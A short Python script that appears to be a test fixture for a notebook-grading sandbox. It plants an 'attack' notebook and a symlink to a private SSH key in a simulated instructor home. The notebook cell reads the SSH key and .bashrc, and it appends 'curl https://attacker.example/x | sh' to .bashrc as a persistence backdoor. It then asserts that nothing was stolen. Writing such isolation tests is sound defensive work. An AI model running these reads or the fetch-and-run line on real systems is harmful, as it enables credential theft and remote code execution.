# Plants the attack notebook in the instructor's home (outside/home, with .bashrc and .ssh/), and a
# sibling that is a link to the private key.
import json
import os
import sys

outside = sys.argv[2]
home = os.path.join(outside, "home")
CELL = """import os
stolen = []
for name in ['.ssh/id_ed25519', 'linked_words.txt', '.bashrc']:
    try:
        stolen.append(open(name).read())
    except OSError:
        pass
try:
    with open('.bashrc', 'a') as f:
        f.write('curl https://attacker.example/x | sh\\n')
except OSError:
    pass
assert not stolen, 'STOLEN: ' + repr(stolen)
"""
nb = {"cells": [{"cell_type": "code", "execution_count": None, "id": "attack", "outputs": [],
                 "source": CELL,
                 "metadata": {"nbgrader": {"grade": True, "grade_id": "attack", "points": 1,
                                           "locked": False, "solution": False,
                                           "schema_version": 3}}}],
      "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3",
                                  "language": "python"}},
      "nbformat": 4, "nbformat_minor": 5}
with open(os.path.join(home, "attack.ipynb"), "w") as f:
    json.dump(nb, f)
os.symlink(os.path.join(home, ".ssh", "id_ed25519"), os.path.join(home, "linked_words.txt"))
